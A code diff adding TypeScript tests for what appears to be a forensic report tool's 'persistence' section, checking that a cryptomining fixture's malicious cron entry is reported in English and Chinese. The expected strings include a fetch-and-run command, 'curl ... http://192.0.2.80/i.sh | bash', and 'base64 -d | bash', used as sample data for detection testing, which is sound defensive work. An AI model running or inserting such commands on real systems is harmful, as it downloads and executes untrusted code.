@@ -125,6 +125,54 @@ describe('proof', () => {
   });
 });
 
+describe('what starts by itself', () => {
+  const sectionOf = (page: string): string =>
+    /<section id="persistence"[\s\S]*?<\/section>/.exec(page)?.[0] ?? '';
+
+  test('each entry that is of concern has its place, trigger, command, layers, target and reasons', () => {
+    const text = textOf(sectionOf(english(miningResult)));
+    for (const part of [
+      'malicious',
+      'crontabs/www-data:3',
+      '*/5 * * * *',
+      'base64 -d | bash',
+      'curl -fsSL http://192.0.2.80/i.sh | bash',
+      'What is run is written in code (1 layer was undone).',
+      '/usr/lib/dbus-update belongs to no package',
+      'ExecStart=/usr/lib/dbus-update',
+      'does not run as things stand',
+    ]) {
+      expect(text).toContain(part);
+    }
+    const texts = textOf(sectionOf(chinese(miningResult)));
+    for (const part of ['恶意', '用户 crontab', '从网络下载内容并立即执行', '解码后', '触发时机', '开机'])
+      expect(texts).toContain(part);
+  });
+
+  test('unusual entries are folded, benign ones counted by mechanism', () => {
+    const section = sectionOf(english(miningResult));
+    expect(section).toMatch(/<details><summary>1 unusual entry[\s\S]*?\/etc\/rc\.local:12/);
+    const [, folded = ''] = section.split('5 benign entries by mechanism');
+    expect(textOf(folded)).toMatch(/systemd service\s+4/);
+    expect(folded).toContain('/etc/cron.d/e2scrub_all:1');
+    expect(sectionOf(english(cleanResult))).toBe('');
+  });
+
+  test('a host with very many entries keeps the page small, and what is left out is told', () => {
+    const [grave] = miningResult.persistence;
+    const benign = miningResult.persistence.at(-1);
+    if (grave === undefined || benign === undefined) throw new Error('no entries');
+    const persistence = [
+      ...Array.from({ length: 400 }, () => grave),
+      ...Array.from({ length: 600 }, () => benign),
+    ];
+    const page = english({ ...miningResult, persistence });
+    expect(page).toContain('100 more in result.json');
+    expect(page.match(/<article class="finding">/g)?.length).toBe(300);
+    expect(page.match(/e2scrub_all:1/g)?.length).toBe(500);
+  });
+});
+
 describe('a page that does nothing', () => {
   test('allows only its own style sheet, by hash', () => {
     const page = english(miningResult);
